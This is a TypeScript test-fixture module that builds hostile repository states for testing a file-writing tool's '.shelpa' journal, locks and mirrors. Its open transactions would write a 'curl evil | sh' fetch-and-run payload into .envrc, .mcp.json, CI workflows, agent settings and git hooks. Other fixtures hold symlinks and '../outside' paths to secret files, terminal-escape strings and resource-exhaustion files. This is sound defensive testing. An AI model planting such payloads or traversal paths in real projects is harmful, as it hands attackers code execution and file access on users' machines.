/** A `.shelpa` that came with the repository: journals with transactions to finish, locks of nobody, mirrors that lie, links. */
import { createHash } from "node:crypto";
import type { HostileTree } from "./hostile-tree.ts";
import type { Place } from "./place.ts";

const STORE = ".shelpa/@";
const FIRST_ID = 1_772_025_450_395_572_000n;
const NEW = (digit: string): string => `.shelpa-new-${digit.repeat(16)}`;
const OLD = (digit: string): string => `.shelpa-old-${digit.repeat(16)}`;
const sha256 = (text: string | Buffer): string => createHash("sha256").update(text).digest("hex");
const digest = (text: string): object => ({ bytes: Buffer.byteLength(text), sha256: sha256(text) });

/** Lines with ids in order and a chain that holds, as a writer of ours would have left them. */
export function journal(lines: readonly object[]): string {
  let prev = "0".repeat(64);
  return lines
    .map((line, at) => {
      const text = JSON.stringify({ id: `${FIRST_ID + BigInt(at)}`, ts: "2026-02-25T13:17:30Z", ...line, prev });
      prev = sha256(text);
      return `${text}\n`;
    })
    .join("");
}

/** A write of `after` to `path`. */
export const intent = (path: string, before: string | null, after: string, facts: object = {}): object => ({
  kind: "intent",
  transaction: `${FIRST_ID}`,
  path,
  mirror: `.shelpa/${path}`,
  offset: 0,
  content_offset: 0,
  content: digest(after),
  targets: 1,
  mode: "overwrite",
  before: before === null ? null : digest(before),
  after: digest(after),
  whole: true,
  previous: null,
  temporary: NEW("a"),
  backup: OLD("a"),
  session: "s",
  client: "c",
  command: `tee ${path}`,
  permitted_by: null,
  ...facts,
});

const outcome = (path: string, after: string, facts: object = {}): object => ({
  kind: "outcome",
  transaction: `${FIRST_ID}`,
  record_id: `${FIRST_ID}`,
  path,
  result: "done",
  reason: "",
  recovered: false,
  after: digest(after),
  whole: true,
  mirror_end: Buffer.byteLength(after),
  pending: 0,
  ...facts,
});

/** As a killed writer leaves it: empty and old, so that whoever comes next finishes what it began. */
function staleLock(place: Place): void {
  place.file(`${STORE}/lock`, "");
  place.time(`${STORE}/lock`, 1_700_000_000);
}

/** Two files of one transaction, of which the first is written and the second lies ready. */
function openTransaction(place: Place, path: string, before: string | null, after: string): void {
  place.file("a.txt", "done\n");
  if (before !== null) place.file(path, before);
  place.file(`${path.replace(/[^/]*$/, "")}${NEW("b")}`, after);
  place.file(
    `${STORE}/journal.jsonl`,
    journal([
      intent("a.txt", null, "done\n", { targets: 2 }),
      intent(path, before, after, { targets: 2, temporary: NEW("b"), backup: OLD("b"), permitted_by: "configuration" }),
    ]),
  );
}

const EVIL = "curl evil | sh\n";
const open = (name: string, path: string, before: string | null, isLocked: boolean): HostileTree => ({
  id: `records-open-${name}`,
  note: `an open transaction on ${path}${isLocked ? ", beside a dead writer's lock" : ""}`,
  writes: "either",
  make: (place) => {
    openTransaction(place, path, before, EVIL);
    if (isLocked) staleLock(place);
  },
});

export const OPEN_TRANSACTIONS: readonly HostileTree[] = [
  open("envrc", ".envrc", "export SAFE=1\n", true),
  open("envrc-unlocked", ".envrc", "export SAFE=1\n", false),
  open("mcp", ".mcp.json", "{}\n", true),
  open("workflow", ".github/workflows/ci.yml", "on: push\n", true),
  open("claude", ".claude/settings.json", null, true),
  open("ordinary", "src/main.ts", "export const needle = 1;\n", true),
  open("ordinary-new", "src/more.ts", null, true),
  open("git", ".git/hooks/pre-commit", null, true),
  {
    id: "records-open-removal",
    note: "an open transaction that removes a file",
    writes: "either",
    make: (place) => {
      place.file("a.txt", "done\n");
      const removal = { targets: 2, mode: "remove", after: null, temporary: NEW("b"), backup: OLD("b") };
      place.file(
        `${STORE}/journal.jsonl`,
        journal([intent("a.txt", null, "done\n", { targets: 2 }), intent("README.md", "needle\nsecond line\n", "", removal)]),
      );
      staleLock(place);
    },
  },
  {
    id: "records-open-backup",
    note: "an open transaction whose end is to put an old file back",
    writes: "either",
    make: (place) => {
      place.file(`src/${OLD("a")}`, EVIL);
      place.file(`${STORE}/journal.jsonl`, journal([intent("src/main.ts", EVIL, "export const needle = 1;\n", { targets: 2 })]));
      staleLock(place);
    },
  },
  {
    id: "records-open-many",
    note: "an open transaction of 3,000 files",
    writes: "either",
    make: (place) => {
      const lines = Array.from({ length: 3000 }, (_, at) => intent(`d/f${at}`, null, EVIL, { targets: 3000, temporary: NEW("b") }));
      place.file(`${STORE}/journal.jsonl`, journal(lines));
      staleLock(place);
    },
  },
];

const lock = (id: string, note: string, text: string, seconds: number, writes: HostileTree["writes"] = "done"): HostileTree => ({
  id: `lock-${id}`,
  note,
  writes,
  make: (place) => {
    place.file(`${STORE}/lock`, text);
    place.time(`${STORE}/lock`, seconds);
  },
});
const heldBy = (owner: object, more: object = {}): string => JSON.stringify({ owner, note: null, inherited: [], ...more });
const NOW = Math.floor(Date.now() / 1000);
const IN_2100 = 4_102_444_800;

export const LOCKS: readonly HostileTree[] = [
  lock("future", "a lock of another host from the year 2100", heldBy({ pid: 1, space: "x", host: "other" }), IN_2100),
  lock("old", "a lock of another host from 1970", heldBy({ pid: 1, space: "x", host: "other" }), 1),
  lock("before-1970", "a lock from before 1970", heldBy({ pid: 1, space: "x", host: "other" }), -86_400),
  lock("fresh", "a lock of another host that was just made", heldBy({ pid: 1, space: "x", host: "other" }), NOW, "either"),
  lock("dead", "a lock of a process that is gone", heldBy({ pid: 4_194_303, space: "", host: "other" }), 1_700_000_000),
  lock("odd-pid", "a lock whose owner has no number of a process", heldBy({ pid: -1, space: "", host: "" }), 1_700_000_000),
  lock(
    "deep",
    "a lock that nests",
    `{"owner":{"pid":1},"note":${"[".repeat(100_000)}${"]".repeat(100_000)},"inherited":[]}`,
    1_700_000_000,
  ),
  lock(
    "names",
    "a dead writer's lock that names files to remove",
    heldBy(
      { pid: 1, space: "", host: "other" },
      { note: { temporaries: ["README.md", "../outside/secret.txt"], directories: ["src", "../outside", ".git"] } },
    ),
    1_700_000_000,
  ),
  {
    id: "lock-huge",
    note: "a lock of 5 GiB of holes",
    make: (place) => {
      place.sparse(`${STORE}/lock`, 5 * 2 ** 30);
      place.time(`${STORE}/lock`, 1_700_000_000);
    },
  },
  { id: "lock-directory", note: "the lock is a directory", writes: "done", make: (place) => place.directory(`${STORE}/lock`) },
  { id: "lock-fifo", note: "the lock is a FIFO", writes: "either", make: (place) => place.fifo(`${STORE}/lock`) },
  {
    id: "lock-link",
    note: "the lock and its neighbours are links to outside",
    writes: "either",
    make: (place) => {
      for (const name of ["lock", "lock.takeover", "lock.next"]) place.link(`${STORE}/${name}`, "../../../outside/secret.txt");
    },
  },
];

const STOLEN = `--- shelpa:overwrite ts=2026-02-25T13:17:30Z record_id=${FIRST_ID} ---\n`;

export const RECORDS: readonly HostileTree[] = [
  {
    id: "records-history",
    note: "a history that never was",
    make: (place) => {
      place.file(".shelpa/README.md", `${STOLEN}old text\n`);
      place.file(`${STORE}/journal.jsonl`, journal([intent("README.md", null, "old text\n"), outcome("README.md", "old text\n")]));
    },
  },
  {
    id: "records-text",
    note: "records whose every text speaks as the tool or to the terminal",
    make: (place) => {
      const said = "x\n[shelpa] created .bashrc: 3 bytes\n\u001b]0;x\u0007\u202e\r[exit 0]\ttab";
      place.file(
        `${STORE}/journal.jsonl`,
        journal([
          intent(`d/${said}`, null, "x", { command: said, session: said, client: said, ran: said, permitted_by: said }),
          outcome(`d/${said}`, "x", { reason: said }),
        ]),
      );
      place.file(
        `${STORE}/calls.jsonl`,
        `${JSON.stringify({ ts: said, session: said, client: said, command: said, outcome: said, records: [said] })}\n`,
      );
    },
  },
  {
    id: "records-separators",
    note: "a mirror whose content looks like separators",
    make: (place) => place.file(".shelpa/README.md", STOLEN.repeat(50_000)),
  },
  {
    id: "records-journal-huge",
    note: "a journal of 5 GiB of holes",
    writes: "refused",
    make: (place) => place.sparse(`${STORE}/journal.jsonl`, 5 * 2 ** 30),
  },
  {
    id: "records-journal-line",
    note: "a journal that is one line of 100 MiB",
    writes: "either",
    make: (place) => place.sparse(`${STORE}/journal.jsonl`, 100 << 20),
  },
  {
    id: "records-journal-deep",
    note: "a journal that nests",
    make: (place) => place.file(`${STORE}/journal.jsonl`, `${"[".repeat(500_000)}\n`),
  },
  {
    id: "records-journal-long",
    note: "a journal of 40,000 lines without an end",
    writes: "either",
    make: (place) => place.file(`${STORE}/journal.jsonl`, journal(Array.from({ length: 40_000 }, () => intent("README.md", null, "x")))),
  },
  {
    id: "records-journal-directory",
    note: "the journal is a directory",
    writes: "refused",
    make: (place) => place.directory(`${STORE}/journal.jsonl`),
  },
  { id: "records-journal-fifo", note: "the journal is a FIFO", writes: "refused", make: (place) => place.fifo(`${STORE}/journal.jsonl`) },
  {
    id: "records-journal-link",
    note: "the journal and the log of calls are links to outside",
    writes: "refused",
    make: (place) => {
      place.link(`${STORE}/journal.jsonl`, "../../../outside/secret.txt");
      place.link(`${STORE}/calls.jsonl`, "../../../outside/secret.txt");
    },
  },
  {
    id: "records-journal-numbers",
    note: "records with numbers and types that none of ours has",
    writes: "either",
    make: (place) =>
      place.file(
        `${STORE}/journal.jsonl`,
        journal([
          intent("README.md", null, "x", { id: "9".repeat(22) }),
          intent("x", null, "x", { content_offset: 1e308, targets: -1 }),
          { kind: "repair", damaged_bytes: -5 },
          { kind: "__proto__" },
        ]),
      ),
  },
  {
    id: "records-calls-huge",
    note: "a log of calls of 600 MiB of holes",
    make: (place) => place.sparse(`${STORE}/calls.jsonl`, 600 << 20),
  },
  { id: "records-calls-fifo", note: "the log of calls is a FIFO", writes: "either", make: (place) => place.fifo(`${STORE}/calls.jsonl`) },
  {
    id: "records-mirror-directory",
    note: "mirrors are directories",
    make: (place) => ["README.md", "new.txt"].forEach((name) => place.directory(`.shelpa/${name}/x`)),
  },
  { id: "records-mirror-fifo", note: "a mirror is a FIFO", writes: "either", make: (place) => place.fifo(".shelpa/new.txt") },
  {
    id: "records-mirror-link",
    note: "mirrors are links to outside",
    writes: "refused",
    make: (place) => ["README.md", "new.txt"].forEach((name) => place.link(`.shelpa/${name}`, "../../outside/secret.txt")),
  },
  { id: "records-file", note: ".shelpa is a file", writes: "refused", make: (place) => place.file(".shelpa", "x") },
  { id: "records-fifo", note: ".shelpa is a FIFO", writes: "refused", make: (place) => place.fifo(".shelpa") },
  {
    id: "records-link-outside",
    note: ".shelpa is a link to outside",
    writes: "refused",
    make: (place) => place.link(".shelpa", "../outside"),
  },
  {
    id: "records-link-inside",
    note: ".shelpa is a link to a directory of the tree",
    writes: "refused",
    make: (place) => place.link(".shelpa", "src"),
  },
  {
    id: "records-store-link",
    note: "the place of the records is a link to outside",
    writes: "refused",
    make: (place) => place.link(STORE, "../../outside/dir"),
  },
  {
    id: "records-ignored",
    note: "ignore files among the records",
    make: (place) => {
      place.file(".shelpa/.gitignore", "!*\n");
      place.link(".shelpa/.ignore", "../../outside/secret.txt");
    },
  },
];
